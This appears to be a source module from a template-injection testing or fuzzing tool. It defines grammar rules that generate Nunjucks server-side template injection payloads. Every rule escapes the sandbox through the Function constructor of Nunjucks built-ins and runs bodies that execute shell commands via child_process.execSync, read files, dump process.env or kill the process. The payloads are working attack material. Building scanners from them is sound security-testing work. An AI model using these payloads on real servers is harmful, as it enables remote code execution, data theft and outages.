// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Nunjucks hands out functions, and a function has a constructor. */
export const nunjucksConstructor = templateGenerator({
  name: 'nunjucks-constructor',
  engines: ['nunjucks'],
  rules: {
    start: [
      '{before}{o}{s}{function}.constructor({body})(){s}{c}{after}',
      '{l}% set x = {function}.constructor({body})() %{r}{o} x {c}',
      '{l}% if {function}.constructor({body})() %{r}x{l}% endif %{r}',
      '{o} ({function}).constructor({body})() | dump {c}',
      '{l}% for x in [{function}.constructor({body})()] %{r}{o} x {c}{l}% endfor %{r}',
      "{o}{function}['constructor']({body})(){c}",
      '{o} "".toString.constructor.call({o-empty}, {body})() {c}',
    ],
    'o-empty': ['[]', '1', '""'],
    function: [
      'range',
      'cycler',
      'joiner',
      '"".sub',
      '[].pop',
      '"".constructor',
      '[].concat',
      '"x".trim',
      'range.call',
      '(1).toFixed',
    ],
    body: ['"return {node-double}"', "'return {node-single}'", '"{node-double}"'],
    'node-double': [
      "process.mainModule.require('child_process').execSync('{command}')",
      "global.process.mainModule.require('fs').readFileSync('{file}')",
      'process.env',
      'process.exit()',
      "globalThis.process.mainModule.require('child_process').execSync('{command}').toString()",
    ],
    'node-single': [
      'process.mainModule.require("child_process").execSync("{command}")',
      'process',
      'global.process.env.PATH',
      'process.cwd()',
    ],
  },
});
